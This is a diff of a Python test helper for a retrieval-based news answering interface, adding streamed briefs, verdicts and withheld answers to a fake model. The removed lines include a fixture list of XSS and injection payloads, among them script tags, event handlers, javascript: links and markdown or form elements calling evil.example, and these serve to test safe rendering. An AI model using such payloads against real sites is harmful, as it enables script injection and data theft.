@@ -6,85 +6,40 @@ import asyncio
 import threading
 from collections.abc import AsyncIterator, Sequence
 from dataclasses import replace
-from datetime import date
 
 from rag.errors import ModelError
-from rag.records import Answer, AnswerEvent, Article, Citation, Evidence, Language, Sentence, Turn
-from tests.factories import article, passage
-
-HOSTILE = (
-    '<script>window.pwned="script"</script>',
-    '<img src=x onerror="window.pwned=1">',
-    "![secret](http://evil.example/?q=secret)",
-    "[click me](javascript:window.pwned=2)",
-    "[click me](http://evil.example/)",
-    "<http://evil.example/>",
-    "http://evil.example/plain www.evil.example",
-    "![ref][r]\n\n[r]: http://evil.example/x.png",
-    '<a href="javascript:window.pwned=3">x</a>',
-    '<iframe src="http://evil.example/"></iframe>',
-    '<svg onload="window.pwned=4"><image href="http://evil.example/i.png"/></svg>',
-    '<style>@import "http://evil.example/s.css"; body{display:none}</style>',
-    '<div style="position:fixed;inset:0;background:url(http://evil.example/b.png)">x</div>',
-    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
-    '<base href="http://evil.example/">',
-    '<form action="http://evil.example/"><input name="password"></form>',
-    '<video src="http://evil.example/v.mp4" autoplay></video>',
-    "${Object.assign(window,{pwned:5})} `${window.pwned=6}`",
-    "{{constructor.constructor('window.pwned=7')()}} {{{value}}}",
-    '"><script>window.pwned=8</script>',
-    "' onmouseover='window.pwned=9",
-    "&lt;script&gt;window.pwned=10&lt;/script&gt;",
-    "```html\n<script>window.pwned=11</script>\n```",
-    "```mermaid\ngraph TD; A-->B\n```",
-    '<details open ontoggle="window.pwned=12">x</details>',
-    "<math><mtext><img src=x onerror=window.pwned=13></mtext></math>",
-    "$$\\href{javascript:window.pwned=14}{x}$$ \\(x\\)",
-    "<!-- --!><img src=x onerror=window.pwned=15> -->",
-    "\ue0000\ue001 \ue0005\ue001",
-    "abc \u202e\u2066gnp.exe\u2069\u202c \u200f!",
-    "\x00\x1b[31m\ud800 broken",
-    '<a class="cite" href="#cite-0-9-00000000-eA" id="chat">1</a>',
+from rag.records import (
+    Answer,
+    AnswerEvent,
+    Article,
+    BriefEvent,
+    BriefProgress,
+    Language,
+    SearchFilter,
+    Sentence,
+    Turn,
+    Verdict,
 )
-"""Texts that want to be more than text."""
-
-TALKS_AR = article(
-    "أعلنت الولايات المتحدة مقرا جديدا لقواتها في اليابان.\n\n"
-    "وتستضيف اليابان نحو 54 ألف جندي أمريكي، بحسب وكالة Reuters. 😀 وبلغت الكلفة $4.5bn.\n\n"
-    + "وتتابع العواصم الثلاث تبادل بيانات الإنذار المبكر في الوقت الحقيقي. " * 30
-    + "\n\nوعُقد الاجتماع في 28 يوليو 2024.",
-    id="talks/ar 1",
-    language="ar",
-    title="مقر جديد للقوات الأمريكية في اليابان",
-    published_at=date(2024, 7, 28),
-    outlet="وكالة المدار",
+from tests.factories import passage
+from tests.ui.briefs import brief, hostile_brief
+from tests.ui.samples import (
+    ARTICLES,
+    DATE_AR,
+    HOSTILE,
+    HOSTILE_ARTICLE,
+    SEARCHED,
+    TALKS_AR,
+    TALKS_EN,
+    TROOPS_AR,
+    TROOPS_EN,
+    cite,
+    judged,
 )
-TALKS_EN = article(
-    "The United States announced a new headquarters for its forces in Japan.\n\n"
-    "About 54,000 American troops are based there, the ministry said.",
-    id="talks-en",
-    title="A new headquarters for US forces in Japan",
-    published_at=date(2024, 7, 28),
-    outlet="Harbor Dispatch",
-)
-HOSTILE_ARTICLE = article(
-    "\n\n".join(HOSTILE),
-    id='"><script>',
-    title=HOSTILE[0] + HOSTILE[1],
-    outlet=HOSTILE[2] + HOSTILE[12],
-)
-ARTICLES = (TALKS_AR, TALKS_EN, HOSTILE_ARTICLE)
 
-TROOPS_AR = "وتستضيف اليابان نحو 54 ألف جندي أمريكي، بحسب وكالة Reuters."
-DATE_AR = "وعُقد الاجتماع في 28 يوليو 2024."
-TROOPS_EN = "About 54,000 American troops are based there, the ministry said."
-
-
-def cite(source: Article, quote: str, number: int = 1) -> Citation:
-    """The citation of `quote`, which stands in the article."""
-    start = source.text.index(quote)
-    found = replace(passage(source.text), article=source)
-    return Citation(Evidence(number, found), start, start + len(quote))
+_FAILED: dict[Language, str] = {
+    "en": "Most of it failed the check.",
+    "ar": "لم يجتز أكثر ما كُتب التحقق.",
+}
 
 
 def answer(
@@ -100,12 +55,15 @@ def answer(
 
 
 class CannedDesk:
-    """Answers by the words of the question: `slow` never ends, `fail` fails the first time,
-    `nothing` abstains, `hostile` quotes the hostile article; Arabic gets Arabic, the rest English.
+    """Answers by the words of the question: `slow` goes on and on, `fail` fails the first time,
+    `nothing` abstains, `judge` gets a sentence for each verdict, `withheld` abstains from these,
+    `hostile` quotes the hostile article; Arabic gets Arabic, the rest English. Briefs go by the
+    same words of their topic.
     """
 
     def __init__(self, *, articles: Sequence[Article] = ARTICLES, pace: float = 0.02) -> None:
         self.histories: list[Sequence[Turn]] = []
+        self.filters: list[SearchFilter | None] = []
         self.left = threading.Event()
         self._articles = {one.id: one for one in articles}
         self._pace = pace
@@ -132,33 +90,89 @@ class CannedDesk:
             yield {"answer": answer(question, (), abstained=True, reason=reason)}
             return
         sentences = _sentences(question)
+        language = _language(question)
         for sentence in sentences:
             for word in sentence.text.split(" "):
                 yield {"text": word + " "}
                 await asyncio.sleep(self._pace)
             yield {"text": "".join(f"[{one.number}]" for one in sentence.citations) + " "}
             yield {"sentences": [sentence]}
-            if "slow" in question:
-                await self._never_end()
-        language: Language = "ar" if sentences[0].citations[0].article is TALKS_AR else "en"
+        if "slow" in question:
+            async for event in self._go_on():
+                yield event
+        if "withheld" in question:
+            refused = answer(
+                question, (), language=language, abstained=True, reason=_FAILED[language]
+            )
+            yield {"answer": replace(refused, searched=SEARCHED, withheld=tuple(sentences))}
+            return
         yield {"answer": answer(question, sentences, language=language)}
 
-    async def _never_end(self) -> None:
+    async def astream_brief(
+        self,
+        topic: str | None,
+        *,
+        where: SearchFilter | None = None,
+        length: str = "medium",
+        languages: Sequence[Language] = ("ar", "en"),
+    ) -> AsyncIterator[BriefEvent]:
+        self.filters.append(where)
+        topic = topic or ""
+        yield {"progress": BriefProgress("searching", 0, 1)}
+        await asyncio.sleep(self._pace)
+        if "fail" in topic:
+            raise ModelError("the model did not answer", retryable=True)
+        if "slow" in topic:
+            async for event in self._read_on():
+                yield event
+        yield {"progress": BriefProgress("reading", 2, 3)}
+        await asyncio.sleep(self._pace)
+        if "hostile" in topic:
+            yield {"brief": hostile_brief()}
+            return
+        made = brief(topic, languages=languages)
+        if "nothing" in topic:
+            made = replace(made, points=(), reason="No article tells of this.")
+        yield {"brief": made}
+
+    async def _read_on(self) -> AsyncIterator[BriefEvent]:
         try:
-            await asyncio.Event().wait()
+            while True:
+                yield {"progress": BriefProgress("reading", 1, 3)}
+                await asyncio.sleep(0.05)
         finally:
             self.left.set()
+
+    async def _go_on(self) -> AsyncIterator[AnswerEvent]:
+        try:
+            while True:
+                yield {"text": "And so on "}
+                await asyncio.sleep(0.05)
+        finally:
+            self.left.set()
+
+
+def _language(question: str) -> Language:
+    return "ar" if any("\u0600" <= letter <= "\u06ff" for letter in question) else "en"
 
 
 def _sentences(question: str) -> list[Sentence]:
     if "hostile" in question:
         return [Sentence(text, (cite(HOSTILE_ARTICLE, text),)) for text in HOSTILE if text.strip()]
-    if any("\u0600" <= letter <= "\u06ff" for letter in question):
+    language = _language(question)
+    if "judge" in question or "withheld" in question:
+        return judged(language)
+    fine = Verdict("supported")
+    if language == "ar":
+        both = (cite(TALKS_AR, DATE_AR), cite(TALKS_EN, TROOPS_EN, 2))
+        troops = "تستضيف اليابان 54 ألف جندي بكلفة $4.5bn."
         return [
-            Sentence("تستضيف اليابان 54 ألف جندي بكلفة $4.5bn.", (cite(TALKS_AR, TROOPS_AR),)),
-            Sentence("وكان ذلك في يوليو.", (cite(TALKS_AR, DATE_AR), cite(TALKS_EN, TROOPS_EN, 2))),
+            Sentence(troops, (cite(TALKS_AR, TROOPS_AR),), verdict=fine),
+            Sentence("وكان ذلك في يوليو.", both, verdict=fine),
         ]
     return [
-        Sentence("About 54,000 troops are based in Japan.", (cite(TALKS_EN, TROOPS_EN),)),
-        Sentence("The talks were in July.", (cite(TALKS_AR, DATE_AR, 2),)),
+        Sentence(
+            "About 54,000 troops are based in Japan.", (cite(TALKS_EN, TROOPS_EN),), verdict=fine
+        ),
+        Sentence("The talks were in July.", (cite(TALKS_AR, DATE_AR, 2),), verdict=fine),
     ]
